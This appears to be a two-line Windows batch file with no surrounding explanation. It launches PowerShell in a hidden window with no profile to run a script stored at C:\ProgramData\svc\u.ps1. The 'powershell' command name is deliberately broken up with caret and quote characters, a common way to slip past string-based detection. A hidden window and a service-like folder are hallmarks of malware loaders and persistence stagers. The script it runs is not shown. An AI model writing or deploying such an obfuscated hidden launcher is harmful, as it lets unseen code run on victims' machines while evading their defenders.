@echo off
p^ow^er""shell -NoP -W Hidden -File C:\ProgramData\svc\u.ps1
